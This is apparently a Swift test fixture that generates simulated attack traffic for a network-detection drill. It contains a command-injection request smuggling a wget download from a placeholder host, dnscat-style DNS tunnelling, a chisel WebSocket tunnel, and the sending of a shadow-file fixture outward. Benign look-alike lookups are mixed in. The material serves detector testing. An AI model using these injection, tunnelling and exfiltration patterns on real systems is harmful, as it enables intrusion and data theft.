import NetTypes
import TestSupport

extension Scenario {
    /// Ways out of the data centre.
    static var outwardDrill: [Scenario] { [nameTunnel] }

    /// A diagnostic page is made to run a command; then two servers talk in name lookups, and a file leaves.
    private static var nameTunnel: Scenario {
        var day = DrillDay(port: 57601)
        day.everyday(
            until: 1200, pace: 28, seed: 57601,
            ["198.51.100.45", "192.0.2.7", "198.51.100.47", "192.0.2.162"])
        let (attacker, server, other) = ("203.0.113.91", "198.51.100.44", "198.51.100.46")
        day.web(
            at: 75, attacker, server, 8088,
            asks: Text.request(
                "GET", "/cgi-bin/ping?host=127.0.0.1;wget+http://drill.invalid/a", host: "giamsat.example"))
        let zone = NameMessage.labels("t.tunnel.example")
        let probes: [[UInt8]] = [
            Array("vaaaakasgd1".utf8),
            Array("zgq2aA-Aaahhh-Drink-mal-ein-J".utf8) + [0xe4] + Array("germeister-".utf8),
            Array("zgq3aAbBcCdDeEfFgGhHiIjJkKlLmMnNoOpPqQrRsStTuUvVwWxXyYzZ".utf8),
        ]
        day.datagrams(at: 300, server, "203.0.113.53", 53) { exchange in
            for (index, probe) in probes.enumerated() {
                let number = UInt16(0x4d00 + index)
                exchange.client(sends: NameMessage.query([probe] + zone, type: 10, identifier: number))
                exchange.server(
                    sends: NameMessage.answer([probe] + zone, type: 10, identifier: number, data: probe))
                exchange.wait(nanoseconds: 2_000_000_000)
            }
        }
        day.datagrams(at: 600, other, "203.0.113.54", 53) { exchange in
            for index in 0..<24 {
                let data = (0..<20).map { UInt8(truncatingIfNeeded: $0 * 37 + index * 11) }.hexadecimal
                let number = UInt16(0x5100 + index)
                exchange.client(sends: NameMessage.query("dnscat.\(data)", type: 16, identifier: number))
                exchange.server(
                    sends: NameMessage.answer(
                        "dnscat.\(data)", type: 16, identifier: number, data: [4] + Array("c0de".utf8)))
                exchange.wait(nanoseconds: 9_500_000_000)
            }
        }
        chisel(from: server, at: 900, in: &day)
        day.talk(at: 1080, other, "203.0.113.111", 9001) { $0.client(sends: DrillFiles.shadow) }
        lookUps(in: &day)
        return Scenario("drills/dns-tunnel", day)
    }

    /// Lookups are too slow, so a tunnel through a web connection follows; what would go through it is left out.
    private static func chisel(from server: String, at second: Int, in day: inout DrillDay) {
        let headers = [
            "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13",
            "Sec-WebSocket-Key: ZHJpbGwtZHJpbGwtZHJpbA==", "Sec-WebSocket-Protocol: chisel-v3",
        ]
        let head = [
            "HTTP/1.1 101 Switching Protocols", "Upgrade: websocket", "Connection: Upgrade",
            "Sec-WebSocket-Protocol: chisel-v3", "", "",
        ]
        day.talk(at: second, server, "203.0.113.70", 8080) { talk in
            talk.client(sends: Text.request("GET", "/", host: "203.0.113.70:8080", headers: headers))
            talk.server(sends: head.joined(separator: "\r\n"))
            let greeting = Array("SSH-chisel-v3-server\r\n".utf8)
            talk.server(sends: [0x82, UInt8(greeting.count)] + greeting)
            talk.wait(seconds: 60)
        }
    }

    /// Names that look strange and are not: of pictures in a delivery network, and of a mail server's list of senders.
    private static func lookUps(in day: inout DrillDay) {
        let names = [
            "a1b2c3d4e5f60718293a4b5c6d7e8f90.cdn.example", "dnscat-tai-lieu.example",
            "4.3.2.198.danh-sach-den.example", "xn--tnh-7la.example",
        ]
        for (index, name) in names.enumerated() {
            day.datagrams(at: 200 + index * 240, "198.51.100.2", "203.0.113.9", 53) { exchange in
                let number = UInt16(0x6100 + index)
                exchange.client(sends: NameMessage.query(name, identifier: number))
                exchange.server(
                    sends: NameMessage.answer(name, identifier: number, data: [203, 0, 113, 10]))
            }
        }
    }
}
